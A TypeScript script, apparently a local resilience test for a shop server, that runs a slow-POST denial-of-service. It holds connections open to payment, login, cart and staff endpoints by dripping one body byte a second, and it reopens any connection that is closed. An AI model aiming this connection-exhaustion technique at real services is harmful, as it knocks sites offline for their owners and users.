import { connect } from 'node:net';

/**
 * Sends endless bodies of one byte a second, in a separate process, until it is stopped. Reopens
 * connections that the shop closes. Uses addresses from 127.0.0.2 up.
 */
const [origin = '', count = '1', addresses = '1'] = process.argv.slice(2);
const paths = [
  '/api/payments/stripe/webhook',
  '/api/auth/login',
  '/api/user/cart',
  '/api/staff/images',
];
for (let index = 0; index < Number(count); index++) stall(index);

function stall(index: number): void {
  const { hostname, port } = new URL(origin);
  const localAddress = `127.0.0.${2 + (index % Number(addresses))}`;
  const socket = connect({ host: hostname, port: Number(port), localAddress });
  const drip = setInterval(() => socket.write(' '), 1000);
  socket.on('error', () => {});
  // Any response is a rejection.
  socket.on('data', () => socket.destroy());
  socket.on('close', () => {
    clearInterval(drip);
    setTimeout(() => stall(index), 50);
  });
  const path = paths[index % paths.length];
  socket.write(
    `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 2000\r\n\r\n{`,
  );
}
